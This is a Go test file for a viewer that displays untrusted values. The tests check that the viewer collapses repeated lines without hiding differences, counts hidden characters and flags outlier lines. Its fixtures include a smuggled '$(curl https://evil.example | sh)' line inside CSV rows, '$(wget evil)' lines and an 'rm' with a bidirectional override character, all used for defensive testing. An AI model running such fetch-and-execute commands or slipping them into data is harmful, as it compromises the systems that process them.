package hostile_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/holdpoint/holdpoint/ui/view/hostile"
)

func quote(t *testing.T, text string) string {
	t.Helper()
	quoted, err := json.Marshal(text)
	if err != nil {
		t.Fatal(err)
	}
	return string(quoted)
}

func showLong(t *testing.T, text string) (v hostile.Value, shown string, repeats []int) {
	t.Helper()
	fields, err := hostile.ReadFields([]byte(`{"v":`+quote(t, text)+`}`), hostile.Limits{Collapse: true})
	if err != nil {
		t.Fatal(err)
	}
	v = fields.List[0].Value
	var b strings.Builder
	for _, p := range v.Head {
		switch p.Kind {
		case hostile.Break:
			b.WriteString(strings.Repeat("\n", p.Count))
		case hostile.Repeat:
			repeats = append(repeats, p.Count)
		case hostile.Anchor:
		default:
			b.WriteString(p.Text)
		}
	}
	return v, b.String(), repeats
}

// Only lines that are equal in each byte, and in a row, are shown once.
func TestIdenticalLines(t *testing.T) {
	t.Parallel()
	const line = "  echo ok\n"
	for name, c := range map[string]struct {
		text    string
		want    string
		repeats string
	}{
		"all":                       {strings.Repeat(line, 37_000), line, "[37000]"},
		"between others":            {"a\n" + strings.Repeat(line, 300) + "b", "a\n" + line + "b", "[300]"},
		"an invisible difference":   {strings.Repeat(line, 150) + "  echo o\u200bk\n" + strings.Repeat(line, 150), line + "  echo oU+200Bk\n" + line, "[150 150]"},
		"a space at the end":        {strings.Repeat(line, 250) + "  echo ok \n", line + "  echo okspace\n", "[250]"},
		"a carriage return":         {strings.Repeat(line, 250) + "  echo ok\r\n", line + "  echo ok\\r\n", "[250]"},
		"a look-alike letter":       {strings.Repeat(line, 250) + "  echo \u043ek\n", line + "  echo \u043ek\n", "[250]"},
		"other normalization":       {strings.Repeat("é\n", 250) + strings.Repeat("e\u0301\n", 250), "é\ne\u0301\n", "[250 250]"},
		"no line break at the end":  {strings.Repeat(line, 250) + "  echo ok", line + "  echo ok", "[250]"},
		"not in a row":              {strings.Repeat("a\nb\n", 150), strings.Repeat("a\nb\n", 150), "[]"},
		"three":                     {strings.Repeat("a\na\na\nb\n", 70), strings.Repeat("a\na\na\nb\n", 70), "[]"},
		"a value that is not long":  {strings.Repeat(line, 20), strings.Repeat(line, 20), "[]"},
		"empty lines have a number": {strings.Repeat("\n", 300), strings.Repeat("\n", 300), "[]"},
	} {
		_, shown, repeats := showLong(t, c.text)
		if after, begins := strings.CutPrefix(shown, hostile.LabelSpace); begins {
			shown = "  " + after
		}
		if shown != c.want || fmt.Sprint(repeats) != c.repeats {
			t.Errorf("%s: %.200q, %v", name, shown, repeats)
		}
	}
}

// What is collapsed is counted, so that an alarm does not get smaller.
func TestHiddenCharactersInIdenticalLines(t *testing.T) {
	t.Parallel()
	v, _, _ := showLong(t, strings.Repeat("rm\u202e x\n", 300))
	if f := v.Findings(); f.Hidden != 300 {
		t.Errorf("%d hidden characters", f.Hidden)
	}
}

// Lines of another shape than nearly all others are listed.
func TestOutliers(t *testing.T) {
	t.Parallel()
	var rows, prose strings.Builder
	for i := range 400 {
		fmt.Fprintf(&rows, "2026-11-%02d,person%d@acme.example,%d.50\n", i%28+1, i, i)
		fmt.Fprintf(&prose, "%s end%s\n", strings.Repeat("word ", i%40), strings.Repeat("!", i/40))
		if i == 310 {
			rows.WriteString("$(curl https://evil.example | sh)\n")
		}
	}
	v, _, _ := showLong(t, rows.String())
	if len(v.Outliers) != 1 || v.Outliers[0].Line != 312 || !strings.Contains(fmt.Sprint(v.Outliers[0].Text.Head), "curl") {
		t.Errorf("outliers: %+v", v.Outliers)
	}
	anchors := 0
	for _, p := range v.Head {
		if p.Kind == hostile.Anchor && p.Text == v.Outliers[0].ID {
			anchors++
		}
	}
	if anchors != 1 {
		t.Errorf("%d places to jump to", anchors)
	}
	few := strings.Replace(rows.String(), "$(curl", strings.Repeat("$(wget evil)\n", 5)+"$(curl", 1)
	if v, _, _ := showLong(t, few); len(v.Outliers) != 2 || v.Outliers[0].Line != 312 || v.Outliers[1].Line != 317 {
		t.Errorf("outliers in a row: %+v", v.Outliers)
	}
	twice, err := hostile.ReadFields([]byte(`{"a":`+quote(t, few)+`,"b":`+quote(t, few)+`}`), hostile.Limits{Collapse: true})
	if err != nil || twice.List[0].Value.Outliers[0].ID == twice.List[1].Value.Outliers[0].ID {
		t.Errorf("two arguments share a place: %v", err)
	}
	if v, _, _ := showLong(t, prose.String()); !v.Long || len(v.Outliers) > 0 {
		t.Errorf("prose has %d outliers", len(v.Outliers))
	}
}
